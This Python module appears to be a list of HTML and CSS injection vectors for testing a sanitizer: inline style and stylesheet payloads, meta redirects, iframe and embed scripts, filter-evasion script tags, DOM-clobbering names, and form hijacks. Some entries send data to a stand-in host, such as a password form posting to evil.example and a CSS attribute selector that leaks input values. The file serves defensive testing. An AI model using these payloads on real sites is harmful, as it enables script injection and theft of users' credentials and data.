"""Vectors that act upon the page around them: styles, redirects, frames, forms, and names that scripts rely on."""

_STYLES = [
    "background:url(https://evil.example/p)", "background:url(javascript:alert(1))", "width:expression(alert(1))", "behavior:url(https://evil.example/x.htc)",
    "-moz-binding:url(https://evil.example/x.xml#x)", "position:fixed;inset:0;z-index:9999", "animation:x 1s", "list-style:url(https://evil.example/p)",
    "content:url(https://evil.example/p)", "\\62 ackground:url(https://evil.example/p)", "background:u/**/rl(https://evil.example/p)",
    "background:url(&quot;https://evil.example/p&quot;)", "color:red;}</style><script>alert(1)</script>", "--x:url(https://evil.example/p);background:var(--x)",
    "background:image-set('https://evil.example/p' 1x)", "cursor:url(https://evil.example/p),auto", "font-family:'</style><img src=x onerror=alert(1)>'",
]  # fmt: skip
_SHEETS = [
    "<style>@import 'https://evil.example/x.css';</style>", "<style>*{background:url(https://evil.example/p)}</style>",
    "<style>input[value^=a]{background:url(https://evil.example/a)}</style>", "<style>@font-face{font-family:x;src:url(https://evil.example/f)}</style>",
    "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=alert(1)>x</p>", "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=import href=https://evil.example/x.html>", "<link rel=prefetch href=https://evil.example/x>", "<link rel=dns-prefetch href=//evil.example>",
    "<link rel=preload as=script href=https://evil.example/x.js>", "<link rel=manifest href=https://evil.example/m>", "<style type=text/javascript>alert(1)</style>",
    "<style media=all>p{color:red}</style>", "<xss style='xss:expr/*XSS*/ession(alert(1))'>",
]  # fmt: skip
_PAGES = [
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<meta http-equiv=refresh content='99;url=https://evil.example'>",
    "<meta http-equiv=set-cookie content='a=b'>", "<meta http-equiv=content-security-policy content=\"script-src 'unsafe-inline'\">",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<meta name=referrer content=unsafe-url>", "<base target=_blank>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\"></iframe>",
    "<iframe srcdoc=&lt;svg/onload=alert(1)&gt;></iframe>", "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    "<iframe sandbox='allow-scripts' srcdoc='<script>alert(1)</script>'></iframe>", "<iframe name=alert(1) src=javascript:eval(name)></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>", "<object type=text/html data=javascript:alert(1)></object>",
    "<embed src='data:image/svg+xml,<svg onload=alert(1)>'>", "<embed type=image/svg+xml src=javascript:alert(1)>", "<applet code=javascript:alert(1)></applet>",
    "<script>alert(1)</script>", "<script src=data:,alert(1)></script>", "<script type=module>alert(1)</script>", "<script type=importmap>{}</script>",
    "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"https://evil.example\"]}]}</script>", "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>",
    "<script>alert(1)//", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>", "<script language=vbscript>alert(1)</script>",
    "<noembed><script>alert(1)</script></noembed>", "<layer src=https://evil.example></layer>", "<ilayer src=x></ilayer>", "<bgsound src=javascript:alert(1)>",
    "<xml id=x><i><![CDATA[<img src=x onerror=alert(1)>]]></i></xml>", "<div datafld=b dataformatas=html datasrc=#x></div>", "<event-source src=x>", "<slot name=x>x</slot>",
    "<dialog open>x</dialog>", "<p popover id=x>x</p><button popovertarget=x>x</button>", "<p contenteditable>x</p>", "<p is=x-y>x</p>", "<p accesskey=x autofocus>x</p>",
    "<p itemscope itemtype=x>x</p>", "<p data-x=1 aria-label=x role=alert slot=x part=x>x</p>", "<p inert hidden translate=no draggable=true>x</p>", "<p xmlns=x xml:lang=x>x</p>",
]  # fmt: skip
_FORMS = [
    "<form action=https://evil.example><input name=password><button>x</button></form>", "<button formaction=javascript:alert(1)>x</button>",
    "<input type=submit formaction=https://evil.example form=x>", "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
    "<input type=password name=password autocomplete=current-password>", "<textarea name=x form=y>", "<isindex action=javascript:alert(1) prompt=x>",
    "<keygen name=x>", "<form><input type=image src=x formaction=javascript:alert(1)></form>", "<form method=dialog><button>x</button></form>",
    "<label for=id_username>x</label>", "<fieldset form=x disabled>x</fieldset>", "<datalist id=x><option value=x></datalist>", "<output for=x>x</output>", "<meter value=1>x</meter>",
]  # fmt: skip
# Names by which an element stands in the way of what scripts look up (DOM clobbering).
_NAMES = [
    "body", "head", "cookie", "forms", "location", "alert", "documentElement", "getElementById", "querySelector", "csrfmiddlewaretoken", "attributes", "nodeName",
    "parentNode", "children", "currentScript", "defaultView", "__proto__", "constructor", "submit", "action", "self", "top",
]  # fmt: skip
VECTORS = [
    *(f'<p style="{style}">x</p>' for style in _STYLES),
    *_SHEETS,
    *_PAGES,
    *_FORMS,
    *(f"<a id={name} name={name} href=http://x>x</a>" for name in _NAMES),
    *(f"<form name={name}><input id={name} name=attributes></form>" for name in _NAMES[:8]),
    *(f"<img name={name} src=x>" for name in _NAMES[:8]),
    "<form id=x><output name=attributes><input onfocus=alert(1) autofocus></form>",
    "<a id=x></a><a id=x name=y href=javascript:alert(1)></a>",
    '<p class="errornote hidden sr-only">x</p>',
    '<p class="pull-quote\tcontrols\nmodal">x</p>',
    "<p dir=evil lang='\"><script>alert(1)</script>'>x</p>",
]
